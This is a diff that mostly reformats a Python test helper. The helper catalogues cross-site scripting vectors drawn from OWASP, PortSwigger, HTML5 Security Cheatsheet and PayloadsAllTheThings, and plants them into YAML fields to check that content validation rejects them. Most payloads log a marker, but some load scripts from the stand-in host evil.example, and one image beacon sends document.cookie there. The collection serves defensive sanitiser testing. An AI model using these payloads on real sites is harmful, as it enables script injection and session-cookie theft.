@@ -8,9 +8,10 @@ in tests/e2e/): every payload that could run calls ``console.log(MARKER)`` or
 
 from __future__ import annotations
 
+from collections.abc import Callable, Iterator
 from dataclasses import dataclass
 from pathlib import Path
-from typing import Any, Callable, Iterator
+from typing import Any
 
 import yaml
 
@@ -28,13 +29,13 @@ PAYLOADS: list[str] = [
     f"[x](javascript:alert('{MARKER}'))",
     f"'><svg/onload=console.log('{MARKER}')>",
     f"</script><script>console.log('{MARKER}')</script>",
-    f"</text><script>console.log('{MARKER}')</script>",          # SVG <text>
-    f"]]><script>console.log('{MARKER}')</script>",               # CDATA
-    f"\"-alert('{MARKER}')-\"",                                    # JS string break-out
+    f"</text><script>console.log('{MARKER}')</script>",  # SVG <text>
+    f"]]><script>console.log('{MARKER}')</script>",  # CDATA
+    f"\"-alert('{MARKER}')-\"",  # JS string break-out
     f"<a href=\"javascript:alert('{MARKER}')\">点我</a>",
     f"<details open ontoggle=console.log('{MARKER}')>",
     f"<iframe srcdoc=\"<script>parent.console.log('{MARKER}')</script>\"></iframe>",
-    f"${{console.log('{MARKER}')}}",                               # template literal
+    f"${{console.log('{MARKER}')}}",  # template literal
     f"![x](x\" onerror=\"console.log('{MARKER}'))",
     f"<style>@import 'javascript:alert(1)';</style><b onmouseover=console.log('{MARKER}')>b</b>",
 ]
@@ -56,7 +57,7 @@ PROSE_UNSAFE: list[str] = [
     f"<a href=\"jav&#x0A;ascript:alert('{MARKER}')\">点我</a>",
     f"<details open ontoggle=console.log('{MARKER}')>",
     f"<iframe srcdoc=\"<script>parent.console.log('{MARKER}')</script>\"></iframe>",
-    f"<img src=x\n onerror=alert('{MARKER}')>",                      # attribute on the next line
+    f"<img src=x\n onerror=alert('{MARKER}')>",  # attribute on the next line
     f"<object data=\"data:text/html,<script>alert('{MARKER}')</script>\"></object>",
     f"<math><maction actiontype=statusline xlink:href=javascript:alert('{MARKER}')>x</maction></math>",
     f"<form action=javascript:alert('{MARKER}')><button>x</button></form>",
@@ -91,8 +92,8 @@ EVIL_HOST = "evil.example"
 
 @dataclass(frozen=True)
 class Vector:
-    id: str        # stable short name, e.g. "owasp-img-js-entities-dec"
-    text: str      # one Markdown block (no blank line inside)
+    id: str  # stable short name, e.g. "owasp-img-js-entities-dec"
+    text: str  # one Markdown block (no blank line inside)
     source: str
     kind: str
 
@@ -143,8 +144,12 @@ def _vectors(m: str, h: str) -> list[tuple[str, str, str, str]]:
         ("owasp-img-js-grave", OWASP, S, f"<IMG SRC=`javascript:alert(\"RSnake says, '{m}'\")`>"),
         ("owasp-a-onmouseover", OWASP, S, f'<a onmouseover="{a}">xxs link</a>'),
         ("owasp-img-malformed", OWASP, S, f'<IMG """><SCRIPT>alert("{m}")</SCRIPT>"\\>'),
-        ("owasp-fromcharcode", OWASP, S,
-         f"<IMG SRC=x onerror=alert(String.fromCharCode({','.join(str(ord(c)) for c in m)})) title={m}>"),
+        (
+            "owasp-fromcharcode",
+            OWASP,
+            S,
+            f"<IMG SRC=x onerror=alert(String.fromCharCode({','.join(str(ord(c)) for c in m)})) title={m}>",
+        ),
         ("owasp-img-hash-onmouseover", OWASP, S, f'<IMG SRC=# onmouseover="{a}">'),
         ("owasp-img-empty-src", OWASP, S, f'<IMG SRC= onmouseover="{a}">'),
         ("owasp-img-no-src", OWASP, S, f'<IMG onmouseover="{a}">'),
@@ -169,40 +174,54 @@ def _vectors(m: str, h: str) -> list[tuple[str, str, str, str]]:
         ("owasp-body-background-js", OWASP, S, f'<BODY BACKGROUND="{js}">'),
         ("owasp-img-dynsrc", OWASP, S, f'<IMG DYNSRC="{js}">'),
         ("owasp-img-lowsrc", OWASP, S, f'<IMG LOWSRC="{js}">'),
-        ("owasp-list-style-image", OWASP, S,
-         f'<STYLE>li {{list-style-image: url("{js}");}}</STYLE><UL><LI>XSS</br>'),
+        ("owasp-list-style-image", OWASP, S, f'<STYLE>li {{list-style-image: url("{js}");}}</STYLE><UL><LI>XSS</br>'),
         ("owasp-svg-onload", OWASP, S, f"<svg/onload={a}>"),
         ("owasp-body-onload", OWASP, S, f"<BODY ONLOAD={a}>"),
         ("owasp-link-stylesheet-js", OWASP, S, f'<LINK REL="stylesheet" HREF="{js};">'),
         ("owasp-img-style-expression", OWASP, S, f"<IMG STYLE=\"xss:expr/*XSS*/ession(alert('{m}'))\">"),
-        ("owasp-style-type-js", OWASP, S, f'<STYLE TYPE="text/javascript">alert(\'{m}\');</STYLE>'),
-        ("owasp-style-class-bg-js", OWASP, S,
-         f'<STYLE>.XSS{{background-image:url("{js}");}}</STYLE><A CLASS=XSS></A>'),
+        ("owasp-style-type-js", OWASP, S, f"<STYLE TYPE=\"text/javascript\">alert('{m}');</STYLE>"),
+        ("owasp-style-class-bg-js", OWASP, S, f'<STYLE>.XSS{{background-image:url("{js}");}}</STYLE><A CLASS=XSS></A>'),
         ("owasp-meta-refresh-js", OWASP, S, f'<META HTTP-EQUIV="refresh" CONTENT="0;url={js};">'),
-        ("owasp-meta-refresh-data", OWASP, S,
-         f'<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,{_b64(html_script)}" title="{m}">'),
-        ("owasp-meta-refresh-double-url", OWASP, S,
-         f'<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL={js};">'),
+        (
+            "owasp-meta-refresh-data",
+            OWASP,
+            S,
+            f'<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,{_b64(html_script)}" title="{m}">',
+        ),
+        ("owasp-meta-refresh-double-url", OWASP, S, f'<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL={js};">'),
         ("owasp-iframe-js", OWASP, S, f'<IFRAME SRC="{js};"></IFRAME>'),
         ("owasp-iframe-onmouseover", OWASP, S, f'<IFRAME SRC=# onmouseover="{a}"></IFRAME>'),
         ("owasp-frameset", OWASP, S, f'<FRAMESET><FRAME SRC="{js};"></FRAMESET>'),
         ("owasp-table-background", OWASP, S, f'<TABLE BACKGROUND="{js}"><TR><TD>x</TD></TR></TABLE>'),
         ("owasp-td-background", OWASP, S, f'<TABLE><TD BACKGROUND="{js}">x</TD></TABLE>'),
         ("owasp-div-bg-js", OWASP, S, f'<DIV STYLE="background-image: url({js})">x</DIV>'),
-        ("owasp-div-bg-css-escapes", OWASP, S,
-         f'<DIV STYLE="background-image:{_css_esc("url(" + js + ")")}" title="{m}">x</DIV>'),
-        ("owasp-div-expression", OWASP, S, f'<DIV STYLE="width: expression(alert(\'{m}\'));">x</DIV>'),
+        (
+            "owasp-div-bg-css-escapes",
+            OWASP,
+            S,
+            f'<DIV STYLE="background-image:{_css_esc("url(" + js + ")")}" title="{m}">x</DIV>',
+        ),
+        ("owasp-div-expression", OWASP, S, f"<DIV STYLE=\"width: expression(alert('{m}'));\">x</DIV>"),
         ("owasp-base-js", OWASP, S, f'<BASE HREF="{js};//">'),
-        ("owasp-object-scriptlet", OWASP, S, f'<OBJECT TYPE="text/x-scriptlet" DATA="http://{h}/scriptlet.html"></OBJECT>'),
-        ("owasp-embed-svg-b64", OWASP, S,
-         f'<EMBED SRC="data:image/svg+xml;base64,{_b64(svg_script)}" type="image/svg+xml" '
-         f'AllowScriptAccess="always" title="{m}"></EMBED>'),
+        (
+            "owasp-object-scriptlet",
+            OWASP,
+            S,
+            f'<OBJECT TYPE="text/x-scriptlet" DATA="http://{h}/scriptlet.html"></OBJECT>',
+        ),
+        (
+            "owasp-embed-svg-b64",
+            OWASP,
+            S,
+            f'<EMBED SRC="data:image/svg+xml;base64,{_b64(svg_script)}" type="image/svg+xml" '
+            f'AllowScriptAccess="always" title="{m}"></EMBED>',
+        ),
         ("owasp-script-attr-gt", OWASP, S, f'<SCRIPT a=">" SRC="http://{h}/xss.js"></SCRIPT>'),
         ("owasp-script-eq-attr", OWASP, S, f'<SCRIPT ="blah" SRC="http://{h}/xss.js"></SCRIPT>'),
         ("owasp-script-grave-gt", OWASP, S, f'<SCRIPT a=`>` SRC="http://{h}/xss.js"></SCRIPT>'),
-        ("owasp-a-href-colon-entity", OWASP, S, f'<a href="javascript&colon;alert(\'{m}\')">x</a>'),
+        ("owasp-a-href-colon-entity", OWASP, S, f"<a href=\"javascript&colon;alert('{m}')\">x</a>"),
         ("owasp-a-href-ctrl-char", OWASP, S, f'<a href="&#1;{js}">x</a>'),
-        ("owasp-a-vbscript", OWASP, S, f"<a href=\"vbscript:msgbox('{m}')\" title=\"{a}\">x</a>"),
+        ("owasp-a-vbscript", OWASP, S, f'<a href="vbscript:msgbox(\'{m}\')" title="{a}">x</a>'),
         # ---- PortSwigger XSS cheat sheet -----------------------------------------------
         ("ps-details-ontoggle", PORTSWIGGER, S, f"<details open ontoggle={a}>"),
         ("ps-audio-onerror", PORTSWIGGER, S, f"<audio src=x onerror={a}>"),
@@ -210,30 +229,54 @@ def _vectors(m: str, h: str) -> list[tuple[str, str, str, str]]:
         ("ps-video-source-onerror", PORTSWIGGER, S, f'<video><source onerror="{a}"></video>'),
         ("ps-marquee-onstart", PORTSWIGGER, S, f"<marquee onstart={a}>XSS</marquee>"),
         ("ps-body-onpageshow", PORTSWIGGER, S, f"<body onpageshow={a}>"),
-        ("ps-animationstart", PORTSWIGGER, S,
-         f'<style>@keyframes x{{}}</style><xss style="animation-name:x" onanimationstart="{a}"></xss>'),
+        (
+            "ps-animationstart",
+            PORTSWIGGER,
+            S,
+            f'<style>@keyframes x{{}}</style><xss style="animation-name:x" onanimationstart="{a}"></xss>',
+        ),
         ("ps-custom-onfocus", PORTSWIGGER, S, f"<xss id=x tabindex=1 onfocus={a} autofocus></xss>"),
         ("ps-custom-onclick", PORTSWIGGER, S, f"<x onclick={a}>click this!</x>"),
         ("ps-pointerover", PORTSWIGGER, S, f"<div onpointerover={a}>MOVE HERE</div>"),
         ("ps-img-eval-src", PORTSWIGGER, S, f"<img src=x:alert(alt) onerror=eval(src) alt='{m}'>"),
         ("ps-iframe-srcdoc", PORTSWIGGER, S, f'<iframe srcdoc="<img src=x onerror={a}>"></iframe>'),
-        ("ps-svg-animate-href", PORTSWIGGER, S,
-         f"<svg><animate attributeName=href values={js} /><a id=x><text x=20 y=20>XSS</text></a></svg>"),
-        ("ps-svg-set-href", PORTSWIGGER, S,
-         f'<svg><a><set attributeName="href" to="{js}"/><text x=20 y=20>XSS</text></a></svg>'),
-        ("ps-svg-animatetransform", PORTSWIGGER, S,
-         f"<svg><animatetransform onbegin={a} attributeName=transform></svg>"),
+        (
+            "ps-svg-animate-href",
+            PORTSWIGGER,
+            S,
+            f"<svg><animate attributeName=href values={js} /><a id=x><text x=20 y=20>XSS</text></a></svg>",
+        ),
+        (
+            "ps-svg-set-href",
+            PORTSWIGGER,
+            S,
+            f'<svg><a><set attributeName="href" to="{js}"/><text x=20 y=20>XSS</text></a></svg>',
+        ),
+        (
+            "ps-svg-animatetransform",
+            PORTSWIGGER,
+            S,
+            f"<svg><animatetransform onbegin={a} attributeName=transform></svg>",
+        ),
         ("ps-noscript-mxss", PORTSWIGGER, S, f'<noscript><p title="</noscript><img src=x onerror={a}>">'),
-        ("ps-popover", PORTSWIGGER, S,
-         f'<button popovertarget=x>Click</button><input type="hidden" popover id=x onbeforetoggle={a}>'),
+        (
+            "ps-popover",
+            PORTSWIGGER,
+            S,
+            f'<button popovertarget=x>Click</button><input type="hidden" popover id=x onbeforetoggle={a}>',
+        ),
         ("ps-a-href-entity-tab", PORTSWIGGER, S, f"<a href=\"javas&Tab;cript:alert('{m}')\">x</a>"),
         ("ps-a-href-dec-colon", PORTSWIGGER, S, f"<a href=\"javascript&#58;alert('{m}')\">x</a>"),
         ("ps-a-href-js-comment-newline", PORTSWIGGER, S, f"<a href=\"javascript://%0aalert('{m}')\">x</a>"),
         ("ps-svg-style-mxss", PORTSWIGGER, S, f"<svg><style><img src=x onerror={a}></style></svg>"),
         ("ps-object-data-js", PORTSWIGGER, S, f'<object data="{js}"></object>'),
         ("ps-embed-src-js", PORTSWIGGER, S, f'<embed src="{js}">'),
-        ("ps-iframe-data-html", PORTSWIGGER, S,
-         f"<iframe src=\"data:text/html,<script>parent.alert('{m}')</script>\"></iframe>"),
+        (
+            "ps-iframe-data-html",
+            PORTSWIGGER,
+            S,
+            f"<iframe src=\"data:text/html,<script>parent.alert('{m}')</script>\"></iframe>",
+        ),
         # ---- HTML5 Security Cheatsheet ------------------------------------------------
         ("h5-form-formaction", HTML5SEC, S, f"<form><button formaction={js}>X</button></form>"),
         ("h5-onforminput", HTML5SEC, S, f"<form id=test onforminput={a}><input></form>"),
@@ -242,20 +285,37 @@ def _vectors(m: str, h: str) -> list[tuple[str, str, str, str]]:
         ("h5-keygen-autofocus", HTML5SEC, S, f"<keygen onfocus={a} autofocus>"),
         ("h5-video-poster-js", HTML5SEC, S, f"<video poster={js}//></video>"),
         ("h5-math-href", HTML5SEC, S, f'<math href="{js}">CLICKME</math>'),
-        ("h5-maction", HTML5SEC, S,
-         f'<math><maction actiontype="statusline#http://{h}" xlink:href="{js}">CLICKME</maction></math>'),
-        ("h5-svg-a-xlink", HTML5SEC, S,
-         f'<svg><a xlink:href="{js}"><rect width="1000" height="1000" fill="white"/></a></svg>'),
+        (
+            "h5-maction",
+            HTML5SEC,
+            S,
+            f'<math><maction actiontype="statusline#http://{h}" xlink:href="{js}">CLICKME</maction></math>',
+        ),
+        (
+            "h5-svg-a-xlink",
+            HTML5SEC,
+            S,
+            f'<svg><a xlink:href="{js}"><rect width="1000" height="1000" fill="white"/></a></svg>',
+        ),
         ("h5-svg-script-xlink", HTML5SEC, S, f"<svg><script xlink:href=data:,alert('{m}') /></svg>"),
-        ("h5-svg-foreignobject", HTML5SEC, S,
-         f'<svg><foreignObject><iframe srcdoc="&lt;script&gt;parent.alert(\'{m}\')&lt;/script&gt;">'
-         f"</iframe></foreignObject></svg>"),
+        (
+            "h5-svg-foreignobject",
+            HTML5SEC,
+            S,
+            f"<svg><foreignObject><iframe srcdoc=\"&lt;script&gt;parent.alert('{m}')&lt;/script&gt;\">"
+            f"</iframe></foreignObject></svg>",
+        ),
         ("h5-comment-breakout", HTML5SEC, S, f'<!--<img src="--><img src=x onerror={a}//">'),
-        ("h5-pi-breakout", HTML5SEC, S, f'<? foo="><script>alert(\'{m}\')</script>">'),
+        ("h5-pi-breakout", HTML5SEC, S, f"<? foo=\"><script>alert('{m}')</script>\">"),
         ("h5-cdata", HTML5SEC, S, f"<![CDATA[<script>alert('{m}')</script>]]>"),
         ("h5-isindex", HTML5SEC, S, f"<isindex type=image src=1 onerror={a}>"),
         ("h5-xmp-mxss", HTML5SEC, S, f'<xmp><p title="</xmp><svg/onload={a}>">'),
-        ("h5-svg-set-onmouseover", HTML5SEC, S, f'<svg><rect width=99 height=99><set attributeName="onmouseover" to="{a}"/></rect></svg>'),
+        (
+            "h5-svg-set-onmouseover",
+            HTML5SEC,
+            S,
+            f'<svg><rect width=99 height=99><set attributeName="onmouseover" to="{a}"/></rect></svg>',
+        ),
         ("h5-frameset-onload", HTML5SEC, S, f"<frameset onload={a}>"),
         # ---- PayloadsAllTheThings -----------------------------------------------------
         ("patt-img-1", PATT, S, f"<img src=1 onerror={a}>"),
@@ -274,15 +334,20 @@ def _vectors(m: str, h: str) -> list[tuple[str, str, str, str]]:
         ("patt-attr-breakout", PATT, S, f"\"><img src=x onerror=console.log('{m}')>"),
         ("patt-single-breakout", PATT, S, f"'><svg/onload=console.log('{m}')>"),
         ("patt-script-breakout", PATT, S, f"</script><script>console.log('{m}')</script>"),
-        ("patt-a-data-html", PATT, S, f"<a href=\"data:text/html;base64,{_b64(html_script)}\" title=\"{m}\">x</a>"),
+        ("patt-a-data-html", PATT, S, f'<a href="data:text/html;base64,{_b64(html_script)}" title="{m}">x</a>'),
         ("patt-a-data-html-plain", PATT, S, f'<a href="data:text/html,{html_script}">x</a>'),
         ("patt-a-js-upper", PATT, S, f"<a href=\"JAVASCRIPT:alert('{m}')\">x</a>"),
         ("patt-a-js-leading-space", PATT, S, f'<a href=" {js}">x</a>'),
-        ("patt-a-js-hex-entities", PATT, S, f'<a href="{_hex("javascript:")}alert(\'{m}\')">x</a>'),
+        ("patt-a-js-hex-entities", PATT, S, f"<a href=\"{_hex('javascript:')}alert('{m}')\">x</a>"),
         ("patt-iframe-data-svg", PATT, S, f'<iframe/src="data:text/html,<svg onload={a}>">'),
         ("patt-contenteditable", PATT, S, f"<p contenteditable onfocus={a} autofocus>x</p>"),
         ("patt-template-literal", PATT, S, f"${{alert('{m}')}}"),
-        ("patt-xss-image-beacon", PATT, S, f"<img src=x onerror=\"new Image().src='//{h}/c?'+document.cookie\" title={m}>"),
+        (
+            "patt-xss-image-beacon",
+            PATT,
+            S,
+            f"<img src=x onerror=\"new Image().src='//{h}/c?'+document.cookie\" title={m}>",
+        ),
         # Markdown links and images (PayloadsAllTheThings, "XSS in Markdown")
         ("md-link-js", PATT, S, f"[x]({js})"),
         ("md-link-js-case", PATT, S, f"[x](JaVaScRiPt:alert('{m}'))"),
@@ -321,7 +386,12 @@ def _vectors(m: str, h: str) -> list[tuple[str, str, str, str]]:
         ("res-link-stylesheet", OWASP, R, f'<link rel="stylesheet" href="http://{h}/r-link.css">'),
         ("res-link-preload", PORTSWIGGER, R, f'<link rel="preload" as="image" href="//{h}/r-preload.png">'),
         ("res-link-icon", PORTSWIGGER, R, f'<link rel="icon" href="//{h}/r-icon.png">'),
-        ("res-meta-link-header", OWASP, R, f'<META HTTP-EQUIV="Link" Content="<http://{h}/r-metalink.css>; REL=stylesheet">'),
+        (
+            "res-meta-link-header",
+            OWASP,
+            R,
+            f'<META HTTP-EQUIV="Link" Content="<http://{h}/r-metalink.css>; REL=stylesheet">',
+        ),
         ("res-object-data", OWASP, R, f'<object data="http://{h}/r-object.swf"></object>'),
         ("res-embed-src", OWASP, R, f'<embed src="http://{h}/r-embed.swf">'),
         ("res-iframe-src", OWASP, R, f'<iframe src="http://{h}/r-iframe.html"></iframe>'),
@@ -330,7 +400,12 @@ def _vectors(m: str, h: str) -> list[tuple[str, str, str, str]]:
         ("res-style-import-string", OWASP, R, f"<STYLE>@import'//{h}/r-import2.css';</STYLE>"),
         ("res-style-moz-binding", OWASP, R, f'<STYLE>BODY{{-moz-binding:url("http://{h}/r-moz.xml#xss")}}</STYLE>'),
         ("res-svg-style-import", PORTSWIGGER, R, f"<svg><style>@import url(//{h}/r-svgimport.css);</style></svg>"),
-        ("res-style-image-set", PORTSWIGGER, R, f"<div style=\"background-image:image-set('//{h}/r-imageset.png' 1x)\">x</div>"),
+        (
+            "res-style-image-set",
+            PORTSWIGGER,
+            R,
+            f"<div style=\"background-image:image-set('//{h}/r-imageset.png' 1x)\">x</div>",
+        ),
         ("res-style-css-escape", OWASP, R, f'<p style="background:u\\72l(//{h}/r-cssesc.png)">x</p>'),
         ("res-style-entity-slashes", OWASP, R, f'<p style="background:url(&#x2F;&#x2F;{h}/r-entity.png)">x</p>'),
         ("res-style-list-image", OWASP, R, f'<ul style="list-style-image:url(http://{h}/r-list.png)"><li>x</li></ul>'),
@@ -341,8 +416,12 @@ def _vectors(m: str, h: str) -> list[tuple[str, str, str, str]]:
         ("res-base-href", OWASP, R, f'<base href="http://{h}/r-base/">'),
         ("res-meta-refresh", OWASP, R, f'<meta http-equiv="refresh" content="0;url=http://{h}/r-refresh">'),
         ("res-form-action", HTML5SEC, R, f'<form action="http://{h}/r-form"><input type=submit value=提交></form>'),
-        ("res-img-data-svg-inner", PORTSWIGGER, R,
-         f"<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='http://{h}/r-datasvg.png'/></svg>\">"),
+        (
+            "res-img-data-svg-inner",
+            PORTSWIGGER,
+            R,
+            f"<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='http://{h}/r-datasvg.png'/></svg>\">",
+        ),
         # ---- markup that swallows the rest of the page --------------------------------
         ("swallow-plaintext", ISSUE, W, f"<plaintext>{m}"),
         ("swallow-textarea", ISSUE, W, f"<textarea>{m}"),
@@ -418,9 +497,15 @@ def _same_file(reported: str, yaml_file: Path) -> bool:
     return Path(reported).parts[-2:] == yaml_file.parts[-2:]
 
 
-def plant(yaml_file: Path, payloads: list[str], problems: Callable[[], list[tuple[str, int]]],
-          start: int = 0, rounds: int = 16, rejected: dict[str, list[tuple[tuple, int]]] | None = None,
-          max_tries: int = 6) -> dict[tuple, str]:
+def plant(
+    yaml_file: Path,
+    payloads: list[str],
+    problems: Callable[[], list[tuple[str, int]]],
+    start: int = 0,
+    rounds: int = 16,
+    rejected: dict[str, list[tuple[tuple, int]]] | None = None,
+    max_tries: int = 6,
+) -> dict[tuple, str]:
     """Append a payload to every string field of yaml_file (round-robin from
     `start`), then revert the fields the content checks reject, until the file
     is valid again. `problems()` returns (file name, line) of every error and
@@ -438,8 +523,8 @@ def plant(yaml_file: Path, payloads: list[str], problems: Callable[[], list[tupl
     paths = [path for path, _ in string_paths(original)]
     order = {path: i for i, path in enumerate(paths)}
     planted: dict[tuple, str] = {}
-    holds: dict[tuple, list[str]] = {}      # payloads in each planted field
-    accepted: dict[tuple, tuple[str, list[str]]] = {}   # last value check accepted
+    holds: dict[tuple, list[str]] = {}  # payloads in each planted field
+    accepted: dict[tuple, tuple[str, list[str]]] = {}  # last value check accepted
     full: set[tuple] = set()
     tries: dict[str, int] = {}
     for i, (path, value) in enumerate(string_paths(original)):
@@ -453,9 +538,15 @@ def plant(yaml_file: Path, payloads: list[str], problems: Callable[[], list[tupl
         bad_lines = {line for f, line in problems() if _same_file(f, yaml_file)}
         if not bad_lines:
             accepted = {path: (v, list(holds[path])) for path, v in planted.items()}
-            missing = [p for p in dict.fromkeys(payloads)
-                       if not any(p in v for v in planted.values()) and tries.get(p, 0) < max_tries]
-            targets = sorted((path for path in planted if path not in full), key=lambda q: (len(holds[q]), -len(planted[q]), order[q]))
+            missing = [
+                p
+                for p in dict.fromkeys(payloads)
+                if not any(p in v for v in planted.values()) and tries.get(p, 0) < max_tries
+            ]
+            targets = sorted(
+                (path for path in planted if path not in full),
+                key=lambda q: (len(holds[q]), -len(planted[q]), order[q]),
+            )
             if not missing or not targets:
                 return planted
             for j, p in enumerate(missing):
@@ -472,7 +563,7 @@ def plant(yaml_file: Path, payloads: list[str], problems: Callable[[], list[tupl
                 continue
             if path in accepted:
                 value, kept = accepted[path]
-                lost = holds[path][len(kept):]
+                lost = holds[path][len(kept) :]
                 planted[path], holds[path] = value, list(kept)
                 full.add(path)
                 _set(data, path, value)
